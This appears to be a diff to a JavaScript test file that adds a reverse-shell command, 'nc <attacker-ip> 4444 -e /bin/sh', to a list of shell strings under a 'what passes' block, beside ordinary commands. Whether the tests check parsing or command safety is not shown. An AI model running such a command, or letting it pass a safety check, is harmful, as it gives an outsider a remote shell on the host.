@@ -192,6 +192,7 @@ describe('what passes', () => {
     'env | grep -q HOME',
     'kubectl get secret a -o jsonpath={.data.b} | base64 -d',
     'eval "$(ssh-agent -s)"',
+    'nc <attacker-ip> 4444 -e /bin/sh',
     'VENV=.venv\n"$VENV/bin/python3" -c "print(1)"',
     'PYTHON="$VENV/bin/python3"\n"$PYTHON" -c "print(1)"',
     'unzip -P "$PASSWORD" data.zip -d data\npython3 scripts/convert.py data',
